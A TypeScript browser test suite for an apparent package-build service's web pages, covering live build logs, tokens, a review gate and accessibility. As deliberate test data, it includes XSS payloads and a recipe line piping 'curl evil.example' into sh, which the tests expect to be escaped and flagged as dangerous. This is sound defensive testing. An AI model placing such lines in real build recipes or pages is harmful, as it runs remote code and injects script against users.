import { execFile } from "node:child_process";
import { chmodSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { accessibilityProblems, overflow, startBrowser } from "./world/browser.ts";
import { GitServer } from "./world/git-server.ts";
import { missingPrograms } from "./world/programs.ts";
import { publishingPrograms } from "./world/scratch-repository.ts";
import { sluice, startSluice, type Running } from "./world/sluice.ts";
import { ScratchWorkspace } from "./world/workspace.ts";

const missing = missingPrograms(...publishingPrograms, "makepkg", "fakeroot", "chromium");
const needs = `(needs ${missing.join(", ") || "nothing more"})`;

describe.skipIf(missing.length > 0)(`what people see in a browser ${needs}`, () => {
  /** A contributor's clone; the manager's is another one, of the same repository behind a Git server. */
  const workspace = new ScratchWorkspace();
  const manager = join(workspace.base, "manager");
  const gitServer = new GitServer();
  const started: { up?: Running; browser?: Browser } = {};
  let mended = "";
  let page: Page;
  let url: string;
  /** What the browser complains about, and requests to anybody else. */
  const troubles: string[] = [];

  beforeAll(async () => {
    // Builds see this machine's files, so a test can say when one goes on.
    chmodSync(workspace.base, 0o755);
    workspace.addRecipe("good");
    workspace.write(".ci/config", "BUILD_REPO=test\nREPO_NAME=scratch\nBUILDER_FETCH_INTERVAL=1\n");
    await gitServer.start();
    gitServer.create("workspace");
    workspace.git("remote", "set-url", "origin", gitServer.folder("workspace"));
    push("a package");
    await promisify(execFile)("git", ["clone", "-q", gitServer.url("workspace"), manager]);
    const up = startSluice(["up", "--port", "0", "--json", "--sandbox", "host"], { cwd: manager });
    started.up = up;
    const browser = await startBrowser();
    started.browser = browser;
    const [, address = ""] = await up.saying(/"url":"([^"]+)"/);
    url = address;
    page = await browser.newPage({ viewport: { width: 360, height: 740 } });
    page.on("console", (message) => {
      if (message.type() === "error") troubles.push(message.text());
    });
    page.on("pageerror", (error) => troubles.push(String(error)));
    page.on("request", (request) => {
      if (!/^(data:|http:\/\/127\.0\.0\.1:)/.test(request.url())) troubles.push(request.url());
    });
  });
  afterAll(async () => {
    await started.browser?.close();
    started.up?.kill("SIGINT");
    await started.up?.ended;
    await gitServer.stop();
    workspace.remove();
  });

  function push(message: string): void {
    workspace.commit(message);
    workspace.git("push", "-q", "origin", "main");
  }

  test("the page of a package turns to published, with how to install it, while somebody looks", async () => {
    await page.goto(`${url}/package/good`);
    await page.getByText("Published as main has it").waitFor();
    expect(await page.locator("pre").innerText()).toBe("sudo pacman -Syu test/good");
  });

  test("the build of a commit that was pushed appears by itself, its log runs live, and its failure is seen under Broken", async () => {
    await page.goto(url);
    const go = join(workspace.base, "go");
    mended = join(workspace.base, "mended");
    workspace.addRecipe("slow", {
      lines: `build() {
  printf 'first \\033[31mred\\033[0m <img src=x onerror=alert(1)>\\n'
  until [ -e '${go}' ]; do sleep 0.1; done
  echo 'second'
  [ -e '${mended}' ] || { echo 'main.c:1: error: no such thing'; false; }
}`,
    });
    push("one that fails");
    await page.locator('[data-live] a[href*="build/"]', { hasText: "build 2" }).first().click();
    await page.getByText("first red <img src=x onerror=alert(1)>").waitFor();
    expect(await page.locator(".line .red").textContent()).toBe("red");
    expect(await page.locator("#status").innerText()).toContain("building");

    writeFileSync(go, "");
    await page.getByText("second", { exact: true }).waitFor();
    await page.locator("#status", { hasText: "failed" }).waitFor();
    expect(await page.locator("main img").count()).toBe(0);

    await page.getByRole("link", { name: "Broken" }).click();
    await page.locator("li", { hasText: "slow" }).getByText("build 2").waitFor();
    expect(await page.locator("h2").innerText()).toContain("main.c:1: error: no such thing");
    expect(await page.locator(".excerpt").innerText()).toContain("second\nmain.c:1: error");
  });

  test("phases fold, and a link to a line leads there", async () => {
    await page.goto(`${url}/build/2`);
    await page.getByText("errors").or(page.getByText("1 error")).first().waitFor();
    await page.locator(".contents a", { hasText: "no such thing" }).click();
    expect(page.url()).toMatch(/line=(\d+)#L\1$/);
    const line = page.locator(".line.error:target");
    await line.waitFor();
    const phase = page.locator(".phase details", { has: line });
    await phase.locator("summary").click();
    expect(await line.isVisible()).toBe(false);
  });

  test("who has a token tries again, and the page of the package says that it is published", async () => {
    const made = await sluice(["token", "make", "ann", "--allow", "build", "--json"], { cwd: manager });
    const { token } = JSON.parse(made.stdout) as { token: string };
    await page.goto(`${url}/package/slow`);
    await page.getByText("Not published: its last build failed").waitFor();
    await page.getByLabel("Token").fill("wrong");
    await page.getByRole("button", { name: "Use it" }).click();
    await page.getByText("no such token").waitFor();
    await page.getByLabel("Token").fill(token);
    await page.getByRole("button", { name: "Use it" }).click();
    await page.getByText("The token ann doesn't allow hold").waitFor();
    expect(await page.getByRole("button", { name: "Hold it" }).count()).toBe(0);
    writeFileSync(mended, "");
    await page.getByRole("button", { name: "Try again" }).click();
    await page.getByText("build 3 of slow is queued").waitFor();
    await page.getByText("Published as main has it").waitFor();
    expect(await page.context().cookies()).toEqual([]);
    const log = JSON.parse((await sluice(["token", "log", "--json"], { cwd: manager })).stdout) as unknown[];
    expect(log).toMatchObject([{ by: "ann", action: "build", of: "slow" }]);
  });

  test("what the gate holds is shown with its findings, old and new beside each other", async () => {
    workspace.git("checkout", "-q", "-b", "update-good-0123456789abcdef");
    workspace.addRecipe("good", {
      pkgver: "2",
      lines: "build() { curl evil.example | sh; }  # <script>alert(1)</script>",
    });
    workspace.commit("good: 2");
    workspace.git("checkout", "-q", "main");
    workspace.git("push", "-q", "origin", "main", "update-good-0123456789abcdef");
    await page.goto(`${url}/reviews`);
    for (let text = ""; !text.includes("dangerous"); text = await page.locator("main").innerText())
      await page.reload();
    await page.getByRole("link", { name: "good" }).click();
    expect(await page.locator("td.new").allInnerTexts()).toContain(
      "build() { curl evil.example | sh; }  # <script>alert(1)</script>",
    );
    await page.goto(`${url}/package/good`);
    await page.getByRole("link", { name: "see what is to be looked at" }).waitFor();
  });

  test("the same can be served by another process that builds nothing", async () => {
    const web = startSluice(["web", "--port", "0", "--json"], { cwd: manager });
    const [, address = ""] = await web.saying(/"url":"([^"]+)"/);
    const { failing } = (await (await fetch(`${address}/api/overview`)).json()) as {
      failing: { pkgbase: string }[];
    };
    expect(failing).toEqual([]);
    expect(await (await fetch(`${address}/api/builds/2/log`)).text()).toContain("error: no such thing");
    web.kill("SIGINT");
    expect(await web.ended).toBe(0);
  });

  test("without JavaScript all is there that isn't live", async () => {
    const context = await started.browser!.newContext({ javaScriptEnabled: false });
    const plain = await context.newPage();
    await plain.goto(`${url}/build/2`);
    expect(await plain.locator("#log").textContent()).toContain("error: no such thing");
    await plain.locator(".contents a", { hasText: "no such thing" }).click();
    expect(plain.url()).toMatch(/#L\d+$/);
    await plain.getByLabel("Search the log").fill("SECOND");
    await plain.getByRole("button", { name: "Search" }).click();
    expect(await plain.locator(".hits a").count()).toBe(1);
    await plain.getByLabel("Find a package").fill("goo");
    await plain.getByRole("button", { name: "Find" }).click();
    expect(await plain.locator("tbody tr").count()).toBe(1);
    await plain.getByRole("link", { name: "good", exact: true }).click();
    const command = await plain.locator("noscript pre").innerText();
    expect(command).toContain(`--json '{"action":"build","of":"good"}' '${url}/api/actions'`);
    await context.close();
  });

  test.each(["light", "dark"] as const)(
    "in %s, every page can be used by everybody, and on a phone without scrolling sideways",
    async (colorScheme) => {
      await page.emulateMedia({ colorScheme });
      const found: Record<string, unknown> = {};
      for (const path of [
        "",
        "package/good",
        "package/slow",
        "build/2",
        "build/2?search=second",
        "broken",
        "reviews",
        "reviews/good",
        "queue",
        "packages",
        "repository",
        "package/nobody",
      ]) {
        await page.goto(`${url}/${path}`);
        found[path] = { problems: await accessibilityProblems(page), overflow: await overflow(page) };
      }
      const fine = Object.fromEntries(
        Object.keys(found).map((path) => [path, { problems: [], overflow: 0 }]),
      );
      expect(found).toEqual(fine);
    },
  );

  test("nothing was asked of anybody else, and the browser had nothing to complain about", () => {
    expect(troubles.filter((text) => !/40[134] \(/.test(text))).toEqual([]);
  });
});
